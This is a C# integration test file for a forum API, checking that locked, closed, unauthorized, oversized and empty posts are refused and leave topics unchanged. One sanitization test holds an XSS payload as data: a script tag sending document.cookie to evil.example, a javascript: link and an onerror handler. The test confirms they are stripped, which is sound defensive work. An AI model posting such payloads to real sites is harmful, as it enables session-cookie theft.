using System.Net.Http.Json;
using System.Text.Json;
using AngleSharp.Html.Parser;
using OCoP.Tests.Integration.Infrastructure;

namespace OCoP.Tests.Integration.Discussions;

/// <summary>
/// The issue's bad input: each is refused with the right status and an RFC 9457 problem (field errors for validation),
/// and leaves the forum as it was, which each test checks by reading the topic again.
/// </summary>
public sealed class BadInputTests(SharedOCoPApp app)
{
    [Fact]
    public async Task Replying_to_a_locked_topic_is_refused_and_nothing_is_added()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Locked");
        (await sponsor.ChangeTopicStateAsync(group, topic, locked: true, reason: "Cooling down.")).EnsureSuccessStatusCode();
        var before = await SnapshotAsync(group, topic);

        var problem = await (await member.ReplyAsync(group, topic, "Let me just add one thing.")).ProblemAsync(409);
        problem.GetProperty("detail").GetString().ShouldBe("This topic is locked: no new replies.");
        await (await member.EditPostAsync(group, topic, 2, "Editing in a locked topic.")).ProblemAsync(409);

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        var viewer = (await member.Session.TopicPageAsync(group, topic)).GetProperty("topic").GetProperty("viewer");
        viewer.GetProperty("canReply").GetBoolean().ShouldBeFalse();
        viewer.GetProperty("cannotReplyBecause").GetString().ShouldBe("This topic is locked: no new replies.");
    }

    [Fact]
    public async Task Replying_to_a_closed_topic_is_refused_even_for_its_facilitators_and_nothing_is_added()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Closed");
        (await sponsor.ChangeTopicStateAsync(group, topic, closed: true, reason: "Resolved.")).EnsureSuccessStatusCode();
        var before = await SnapshotAsync(group, topic);

        foreach (var replier in new[] { member, sponsor })
        {
            var problem = await (await replier.ReplyAsync(group, topic, "One more thought.")).ProblemAsync(409);
            problem.GetProperty("detail").GetString().ShouldBe("This topic is closed.");
        }

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        (await app.CreateClient().TopicPageAsync(group, topic)).GetProperty("topic").GetProperty("closedReason").GetString().ShouldBe("Resolved.");
    }

    [Fact]
    public async Task Editing_someone_elses_post_is_forbidden_and_the_post_is_unchanged()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Trespass");
        var before = await SnapshotAsync(group, topic);

        var problem = await (await member.EditPostAsync(group, topic, 1, "I rewrote your opening post.")).ProblemAsync(403);
        problem.GetProperty("title").GetString().ShouldBe("Forbidden");

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        (await sponsor.Session.RevisionsAsync(group, topic, 1)).Count.ShouldBe(1);
    }

    [Fact]
    public async Task Posting_in_a_group_one_is_not_a_contributor_of_is_forbidden_and_nothing_is_added()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Reader");
        await sponsor.SetForumRolesAsync(member, group, "Reader");
        var outsider = await app.RegisterConfirmedAsync("Reader Outsider");
        var before = await SnapshotAsync(group, topic);

        var asReader = await (await member.ReplyAsync(group, topic, "Readers read.")).ProblemAsync(403);
        asReader.GetProperty("detail").GetString()!.ShouldContain("Readers of");
        await (await member.StartTopicAsync(group, "A reader's topic", "Not allowed.")).ProblemAsync(403);
        var asOutsider = await (await outsider.ReplyAsync(group, topic, "Outsiders do not post.")).ProblemAsync(403);
        asOutsider.GetProperty("detail").GetString()!.ShouldStartWith("Join ");
        await (await outsider.StartTopicAsync(group, "An outsider's topic", "Not allowed.")).ProblemAsync(403);
        await (await app.CreateSession().PostAsJsonAsync($"{DiscussionsApi.Topic(group, topic)}/posts", new { body = "Anonymous." })).ProblemAsync(401);

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        (await app.CreateClient().TopicListAsync(group)).Numbers().ShouldBe([topic]);
    }

    [Fact]
    public async Task Markdown_with_a_script_or_javascript_links_is_stored_stripped_and_never_runs()
    {
        var (_, member, group, topic) = await TopicWithMemberAsync("Hostile");
        const string body = "<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n" +
            "[free prize](javascript:alert(document.cookie)) <img src=x onerror=alert(1)>";

        (await member.ReplyAsync(group, topic, body)).EnsureSuccessStatusCode();

        var post = (await member.Session.TopicPageAsync(group, topic)).PostNumbered(3);
        post.GetProperty("source").GetString().ShouldBe(body);
        var html = new HtmlParser().ParseDocument(post.GetProperty("html").GetString()!).Body!;
        html.QuerySelectorAll("script, img").ShouldBeEmpty();
        html.QuerySelectorAll("[href], [src]").ShouldBeEmpty();
        html.QuerySelectorAll("*").SelectMany(e => e.Attributes).ShouldAllBe(a => !a.Name.StartsWith("on"));
        html.InnerHtml.ShouldNotContain("javascript:", Case.Insensitive);
        html.TextContent.ShouldContain("free prize");
    }

    [Fact]
    public async Task A_one_megabyte_body_is_refused_with_a_field_error_and_nothing_is_stored()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Huge");
        var huge = new string('a', 1024 * 1024);
        var before = await SnapshotAsync(group, topic);

        foreach (var response in new[]
        {
            await member.ReplyAsync(group, topic, huge),
            await member.EditPostAsync(group, topic, 2, huge),
            await sponsor.StartTopicAsync(group, "A topic far too long", huge),
        })
        {
            var problem = await response.ProblemAsync(400);
            problem.ErrorFields().ShouldBe(["body"]);
            problem.GetProperty("errors").GetProperty("body")[0].GetString()!.ShouldContain("32000");
        }

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        (await app.CreateClient().TopicListAsync(group)).Numbers().ShouldBe([topic]);
        (await member.Session.RevisionsAsync(group, topic, 2)).Count.ShouldBe(1);
    }

    [Fact]
    public async Task An_empty_title_or_body_is_refused_with_field_errors_and_no_topic_is_started()
    {
        var (sponsor, member, group, topic) = await TopicWithMemberAsync("Empty");
        var before = await SnapshotAsync(group, topic);

        (await (await member.StartTopicAsync(group, "", "A body without a title.")).ProblemAsync(400)).ErrorFields().ShouldBe(["title"]);
        (await (await member.StartTopicAsync(group, "   ", "A body without a title.")).ProblemAsync(400)).ErrorFields().ShouldBe(["title"]);
        (await (await member.StartTopicAsync(group, "", "")).ProblemAsync(400)).ErrorFields().ShouldBe(["body", "title"]);
        (await (await member.ReplyAsync(group, topic, "")).ProblemAsync(400)).ErrorFields().ShouldBe(["body"]);
        (await (await sponsor.EditPostAsync(group, topic, 1, "")).ProblemAsync(400)).ErrorFields().ShouldBe(["body"]);
        var problem = await (await member.StartTopicAsync(group, "", "A body without a title.")).ProblemAsync(400);
        problem.GetProperty("title").GetString().ShouldBe("One or more fields are invalid.");
        problem.GetProperty("errors").GetProperty("title").GetArrayLength().ShouldBeGreaterThan(0);

        (await SnapshotAsync(group, topic)).ShouldBe(before);
        (await app.CreateClient().TopicListAsync(group)).Numbers().ShouldBe([topic]);
    }

    /// <summary>A group with a topic (by its sponsor) and one reply (by a contributor).</summary>
    private async Task<(TestMember Sponsor, TestMember Member, Guid Group, int Topic)> TopicWithMemberAsync(string name)
    {
        var sponsor = await app.RegisterConfirmedAsync($"{name} Sponsor");
        var member = await app.RegisterConfirmedAsync($"{name} Member");
        var group = await sponsor.CreateForumAsync();
        await member.JoinForumAsync(group);
        var topic = await sponsor.StartTopicNumberAsync(group, "A topic to get wrong", "The opening post.");
        (await member.ReplyNumberAsync(group, topic, "The first reply.")).ShouldBe(2);
        return (sponsor, member, group, topic);
    }

    /// <summary>What anyone reads of the topic: its counters and state, and every post with its words and revision.</summary>
    private async Task<string> SnapshotAsync(Guid group, int topic)
    {
        var read = await app.CreateClient().TopicPageAsync(group, topic, "?limit=100");
        var page = read.GetProperty("topic");
        var posts = read.PostsOf().Select(p =>
            $"{p.GetProperty("number")}|{p.GetProperty("revision")}|{p.GetProperty("html")}|{p.GetProperty("editedAt")}|{p.GetProperty("deleted")}");
        return JsonSerializer.Serialize(new
        {
            replyCount = page.GetProperty("replyCount").GetInt32(),
            lastPostNumber = page.GetProperty("lastPostNumber").GetInt32(),
            locked = page.GetProperty("locked").GetBoolean(),
            closed = page.GetProperty("closed").GetBoolean(),
            posts,
        });
    }
}
